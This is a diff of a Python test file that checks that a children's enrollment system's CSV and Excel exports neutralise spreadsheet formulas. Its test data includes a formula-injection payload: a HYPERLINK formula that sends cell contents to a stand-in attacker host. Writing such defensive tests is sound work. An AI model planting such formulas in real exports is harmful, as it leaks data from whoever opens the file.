@@ -2,8 +2,6 @@
 out as text in the children's CSV and Excel exports and in the attendance workbook, and every
 list with an export in the admin goes through ``cms.exports``."""
 
-# ruff: noqa: F811 - the fixtures imported from admin_support are redefined as arguments
-
 import csv
 import io
 
@@ -17,14 +15,8 @@ import pytest
 from openpyxl import load_workbook
 
 from cms.exports import safe_cell
-from tests.enrollment.admin_support import (  # noqa: F401 - fixtures
-    coordinator_a,
-    county_a,
-    county_b,
-    signed_in,
-)
 from tests.enrollment.attendance_support import at, book, summer_class
-from tests.people import make_child, make_guardian
+from tests.people import make_child, make_guardian, signed_in
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
